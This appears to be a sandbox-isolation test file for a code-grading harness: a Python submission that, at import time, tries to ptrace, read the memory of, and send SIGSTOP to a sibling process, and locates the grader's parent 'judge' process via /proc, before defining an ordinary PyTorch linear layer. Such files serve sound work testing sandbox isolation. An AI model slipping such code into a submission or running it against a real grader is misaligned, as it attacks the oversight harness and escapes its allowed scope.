"""Attack: reach a process outside the worker's tree: a signal, ptrace, process_vm_readv."""
import ctypes
import os
import signal

import torch
from torch import Tensor, nn


def _status(pid):
    with open(f"/proc/{pid}/status") as handle:
        return {k: v.strip() for k, _, v in (line.partition(":") for line in handle)}


def _template_pid():
    """The worker's parent, the grader's template (0 where the parent is outside the worker's PID namespace)."""
    return os.getppid()


def _judge_pid():
    template = _template_pid()
    return int(_status(template)["PPid"]) if template else 0


def attempt(label, action):
    try:
        result = action()
        print(f"{label}: done {result if result is not None else ''}".rstrip(), flush=True)
    except (OSError, ValueError) as exc:
        print(f"{label}: {exc}", flush=True)

SIBLING = int("__SIBLING_PID__")
PTRACE_SEIZE, PTRACE_INTERRUPT = 0x4206, 0x4207
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def checked(value):
    if value < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return value


def read_memory():
    with open(f"/proc/{SIBLING}/maps") as handle:
        start = int(handle.readline().split("-")[0], 16)
    buffer = ctypes.create_string_buffer(64)
    local, remote = IoVec(ctypes.addressof(buffer), 64), IoVec(start, 64)
    return checked(libc.process_vm_readv(SIBLING, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))


attempt("ptrace(PTRACE_SEIZE, sibling)", lambda: checked(libc.ptrace(PTRACE_SEIZE, SIBLING, None, None)))
attempt("ptrace(PTRACE_INTERRUPT, sibling)", lambda: checked(libc.ptrace(PTRACE_INTERRUPT, SIBLING, None, None)))
attempt("process_vm_readv(sibling)", read_memory)
attempt("kill(sibling, SIGSTOP)", lambda: os.kill(SIBLING, signal.SIGSTOP))


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
